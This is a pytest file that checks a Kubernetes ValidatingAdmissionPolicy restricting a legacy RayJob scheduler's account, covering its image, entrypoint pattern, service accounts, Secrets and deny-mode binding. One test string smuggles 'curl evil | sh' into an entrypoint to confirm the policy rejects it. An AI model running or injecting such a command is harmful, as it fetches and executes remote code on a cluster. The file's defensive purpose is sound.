"""The legacy daily scheduler's API token is held in check: its Role may create RayJobs (pods of
any shape), so a ValidatingAdmissionPolicy bound with Deny admits only RayJobs of the daily
template's shape, and deletes of its own RayJobs.

Offline: the policy's CEL is not evaluated here (no CEL runtime among the project's
dependencies); these tests check that it is rendered, bound and matched to the scheduler's
account (`kuberay.identity.creator_problems`), and that the template the scheduler creates from
satisfies the policy's terms: the overlay's image, the entrypoint pattern, the accounts, the
Secrets.
"""

from __future__ import annotations

import importlib.util
import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from kuberay import identity, validate
from kuberay.validate import Resource


def _prepare() -> Callable[..., dict[str, Any]]:
    """create_rayjob.prepare, from the image's script (not a package)."""
    path = Path(__file__).resolve().parents[2] / "kuberay" / "image" / "create_rayjob.py"
    spec = importlib.util.spec_from_file_location("kuberay_image_create_rayjob_admission", path)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    prepare: Callable[..., dict[str, Any]] = module.prepare
    return prepare


POLICY = "raypipe-daily-scheduler-rayjobs"


def rendered(overlay: str = "prod-kuberay-1.5") -> list[Resource]:
    if shutil.which("kubectl") is None:
        pytest.skip("kubectl is not on PATH: the kustomize overlays cannot be rendered")
    return validate.render(validate.OVERLAYS / overlay)


def _one(rs: list[Resource], kind: str) -> Resource:
    (found,) = [r for r in rs if r["kind"] == kind]
    return found


def _created_rayjob(rs: list[Resource]) -> dict[str, Any]:
    """The RayJob create_rayjob.py sends: the template with the CronJob's image everywhere."""
    cm = next(r for r in rs if r["kind"] == "ConfigMap" and "rayjob-template" in r["metadata"]["name"])
    cronjob = next(r for r in rs if r["kind"] == "CronJob" and r["metadata"]["name"] == "raypipe-daily-legacy")
    image = cronjob["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]["image"]
    template = yaml.safe_load(next(iter(cm["data"].values())))
    return _prepare()(template, image=image, scheduled_by="raypipe-daily-legacy")


def _validation(policy: Resource, words: str) -> str:
    expression: str = next(v["expression"] for v in policy["spec"]["validations"] if words in v["message"])
    return expression


def _pods(job: dict[str, Any]) -> list[dict[str, Any]]:
    cluster = job["spec"]["rayClusterSpec"]
    return [
        job["spec"]["submitterPodTemplate"]["spec"],
        cluster["headGroupSpec"]["template"]["spec"],
        *(g["template"]["spec"] for g in cluster["workerGroupSpecs"]),
    ]


def test_the_scheduler_account_is_held_by_a_denying_admission_policy() -> None:
    resources = rendered()
    assert identity._creators(resources) == {"raypipe-daily-scheduler"}
    assert identity.creator_problems(resources) == []
    policy, binding = _one(resources, "ValidatingAdmissionPolicy"), _one(resources, "ValidatingAdmissionPolicyBinding")
    assert policy["metadata"]["name"] == binding["spec"]["policyName"] == POLICY
    assert binding["spec"]["validationActions"] == ["Deny"] and policy["spec"]["failurePolicy"] == "Fail"
    # Only the legacy component has a scheduler: the other overlays need no policy.
    assert [r for r in rendered("prod") if r["kind"].startswith("ValidatingAdmission")] == []


def test_the_policy_admits_the_rayjob_the_scheduler_creates_and_names_the_overlay_image() -> None:
    resources = rendered()
    policy, job = _one(resources, "ValidatingAdmissionPolicy"), _created_rayjob(resources)
    variables = {v["name"]: v["expression"] for v in policy["spec"]["variables"]}
    image = job["spec"]["rayClusterSpec"]["headGroupSpec"]["template"]["spec"]["containers"][0]["image"]
    assert variables["image"] == f"'{image}'" and image.endswith("/raypipe:0.1.0")
    pattern = re.search(r"matches\('([^']+)'\)", _validation(policy, "entrypoint"))
    assert pattern is not None and re.search(pattern.group(1), job["spec"]["entrypoint"])
    for bad in ("python -m raypipe daily --input x; curl evil | sh", "python -m raypipe backfill --input x"):
        assert not re.search(pattern.group(1), bad)
    accounts = _validation(policy, "raypipe-submitter")
    submitter, *ray_pods = _pods(job)
    assert f"== '{submitter['serviceAccountName']}'" in accounts
    assert {p["serviceAccountName"] for p in ray_pods} == {"raypipe-jobs"} and "== 'raypipe-jobs'" in accounts
    allowed = set(re.findall(r"'([^']+)'", variables["secrets"]))
    used = {
        ref["name"]
        for p in _pods(job)
        for c in p.get("initContainers", []) + p["containers"]
        for ref in [
            e["valueFrom"]["secretKeyRef"] for e in c.get("env", []) if "secretKeyRef" in e.get("valueFrom", {})
        ]
        + [f["secretRef"] for f in c.get("envFrom", []) if "secretRef" in f]
    } | {v["secret"]["secretName"] for p in _pods(job) for v in p.get("volumes", []) if "secret" in v}
    assert used <= allowed, used - allowed
    assert not allowed & {"raypipe-serve-ray-token", "raypipe-backfill-ray-token", "raypipe-serve-tls"}


def _binding(rs: list[Resource]) -> dict[str, Any]:
    spec: dict[str, Any] = _one(rs, "ValidatingAdmissionPolicyBinding")["spec"]
    return spec


def _policy(rs: list[Resource]) -> dict[str, Any]:
    spec: dict[str, Any] = _one(rs, "ValidatingAdmissionPolicy")["spec"]
    return spec


BREAKS: dict[str, Callable[[list[Resource]], Any]] = {
    "no-policy": lambda rs: rs.remove(_one(rs, "ValidatingAdmissionPolicy")),
    "no-binding": lambda rs: rs.remove(_one(rs, "ValidatingAdmissionPolicyBinding")),
    "binding-only-warns": lambda rs: _binding(rs).update(validationActions=["Warn", "Audit"]),
    "policy-fails-open": lambda rs: _policy(rs).update(failurePolicy="Ignore"),
    "policy-matches-another-account": lambda rs: _policy(rs)["matchConditions"][0].update(
        expression="request.userInfo.username == 'system:serviceaccount:raypipe:raypipe-jobs'"
    ),
    "policy-skips-deletes": lambda rs: _policy(rs)["matchConstraints"]["resourceRules"][0].update(
        operations=["CREATE"]
    ),
}


@pytest.mark.parametrize("case", sorted(BREAKS))
def test_a_scheduler_without_a_denying_policy_is_a_problem(case: str) -> None:
    resources = rendered()
    BREAKS[case](resources)
    assert any("raypipe-daily-scheduler may create RayJobs" in p for p in identity.identity_problems(resources))
